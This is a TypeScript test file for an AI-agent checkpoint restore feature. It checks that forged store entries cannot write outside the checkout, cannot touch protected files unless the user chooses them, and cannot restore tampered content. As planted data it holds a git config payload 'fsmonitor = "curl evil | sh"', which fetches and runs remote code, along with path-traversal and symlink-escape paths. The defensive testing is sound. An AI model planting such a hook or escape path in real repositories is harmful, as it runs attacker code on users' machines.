// A bring-back takes the run's journal from a store other machines write: whatever it holds, nothing
// is written outside this checkout (`..`, an absolute path, a symlink in this checkout pointing out,
// the extension's storage) — such paths are planned as refused, with why — and a protected file
// (.git/config, .vscode/tasks.json) is written only when the user chooses it. A kept copy that does
// not hold the bytes its record names stops the bring-back before anything is written.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { sha256 } from '../../../../src/common/hash';
import { defaultTicks, OUTSIDE_WORKSPACE } from '../../../../src/actions/restore/plan';
import type { FileChange, FileVersion } from '../../../../src/store/api/schema';
import type { CheckpointStore } from '../../../../src/store/api/types';
import { testActions } from '../../../support/actions';
import { owner, tmp } from '../../loop/support';
import { drive } from '../../runner/files/journalSupport';

const notHere = async () => Promise.reject(new Error('no runner in this checkout'));

/** Journals changes no agent made (what a forged or hostile store can hold): each path created with `content`. */
async function plant(store: CheckpointStore, runId: string, files: [string, FileVersion][]): Promise<void> {
  const lease = await store.acquire(runId, owner('planter'));
  const changes: FileChange[] = files.map(([p, after]) => ({ path: p, before: { kind: 'absent' }, after }));
  await store.recordIntent(runId, {
    tool_call_id: 'planted',
    step: 1,
    tool_name: 'write_file',
    input_hash: 'x',
    side_effecting: true,
    files: changes,
  });
  await store.recordResult(runId, 'planted', {
    output: 'ok',
    output_hash: 'y',
    is_error: false,
    blob: null,
    files: changes,
  });
  await lease.release();
}

async function kept(store: CheckpointStore, runId: string, content: string, claims = content): Promise<FileVersion> {
  const lease = await store.acquire(runId, owner('planter'));
  const blob = await store.putBlob(runId, content);
  await lease.release();
  return { kind: 'file', sha256: sha256(claims), size: Buffer.byteLength(claims), blob, encoding: 'utf8' };
}

describe('bring back: hostile store content', function () {
  this.timeout(60_000);

  it('paths leaving the checkout are refused and never written; protected files only when chosen', async () => {
    const base = tmp('hostile');
    const a = path.join(base, 'a');
    const b = path.join(base, 'b');
    const outside = path.join(base, 'outside');
    for (const d of [a, b, outside]) fs.mkdirSync(d);
    fs.symlinkSync(outside, path.join(b, 'out'));
    const storageDir = path.join(b, '.aw-storage');
    fs.mkdirSync(storageDir);
    const { store, runId } = await drive(a, [{ name: 'write_file', arguments: { path: 'ok.txt', content: 'fine\n' } }]);
    const evil = await kept(store, runId, '[core]\n\tfsmonitor = "curl evil | sh"\n');
    const escapes = [
      '../escape.txt',
      path.join(base, 'abs.txt'),
      'out/through-link.txt',
      '.aw-storage/runs/x/owner.lock',
      'ok/../../up.txt',
    ];
    const protectedPaths = ['.git/config', '.vscode/tasks.json'];
    await plant(
      store,
      runId,
      [...escapes, ...protectedPaths].map((p) => [p, evil]),
    );

    const runner = { isActive: () => false, resume: notHere, decideApprovals: notHere };
    const ui = testActions({ store, runner, workspace: b, storageDir, owner: owner('checkout B') });
    const plan = await ui.actions.bringBack.plan(runId);
    const byPath = new Map(plan.files.map((f) => [f.path, f]));
    assert.equal(byPath.get('ok.txt')!.action, 'revert', "the run's own file is brought as usual");
    for (const p of escapes) {
      const f = byPath.get(p)!;
      assert.equal(f.action, 'refused', p);
      assert.ok(f.reason.startsWith(`${OUTSIDE_WORKSPACE}: `), f.reason);
      assert.equal(f.overwritable, false, `${p} cannot be chosen`);
    }
    for (const p of protectedPaths) {
      const f = byPath.get(p)!;
      assert.equal(f.action, 'conflict', p);
      assert.match(f.reason, /is a protected file .*: written only if you choose it/);
      assert.equal(f.overwritable, true, 'the user may choose it');
    }

    // Enter on the preview, with every refused path ticked too (a forged answer): nothing outside, nothing protected.
    ui.editor.ticks = (p) => new Set([...defaultTicks(p), ...escapes]);
    const record = (await ui.actions.bringBack.run(runId))!;
    assert.equal(fs.readFileSync(path.join(b, 'ok.txt'), 'utf8'), 'fine\n');
    for (const p of [
      path.join(base, 'escape.txt'),
      path.join(base, 'abs.txt'),
      path.join(outside, 'through-link.txt'),
      path.join(storageDir, 'runs'),
      path.join(base, 'up.txt'),
      path.join(b, '.git'),
      path.join(b, '.vscode'),
    ])
      assert.equal(fs.existsSync(p), false, `${p} was not written`);
    assert.deepEqual(
      record.files.filter((f) => f.path !== 'ok.txt').map((f) => f.action),
      [...escapes, ...protectedPaths].sort().map((p) => (protectedPaths.includes(p) ? 'kept' : 'unrestorable')),
    );

    // Chosen: the protected file is written (and its absence is what Undo brings back).
    ui.editor.ticks = () => new Set(['.vscode/tasks.json']);
    const chosen = (await ui.actions.bringBack.run(runId))!;
    assert.equal(
      fs.readFileSync(path.join(b, '.vscode/tasks.json'), 'utf8'),
      '[core]\n\tfsmonitor = "curl evil | sh"\n',
    );
    assert.equal(chosen.files.find((f) => f.path === '.vscode/tasks.json')!.action, 'overwritten');
    assert.equal(fs.existsSync(path.join(b, '.git')), false);
  });

  it('a kept copy that is not the content its record names stops the bring-back before anything is written', async () => {
    const a = tmp('forged-a');
    const b = tmp('forged-b');
    const { store, runId } = await drive(a, [{ name: 'write_file', arguments: { path: 'ok.txt', content: 'fine\n' } }]);
    await plant(store, runId, [['z-forged.txt', await kept(store, runId, 'evil\n', 'innocent\n')]]);
    const runner = { isActive: () => false, resume: notHere, decideApprovals: notHere };
    const ui = testActions({ store, runner, workspace: b, owner: owner('checkout B') });
    assert.equal(await ui.actions.bringBack.run(runId), undefined);
    assert.deepEqual(fs.readdirSync(b), [], 'nothing written, not even the good file');
    assert.match(
      ui.notices.said.at(-1)!,
      /could not restore z-forged\.txt: the kept copy .* does not hold the content its record names \(nothing was written\)/,
    );
    assert.deepEqual(await store.listRestores(runId), [], 'nothing recorded');
  });
});
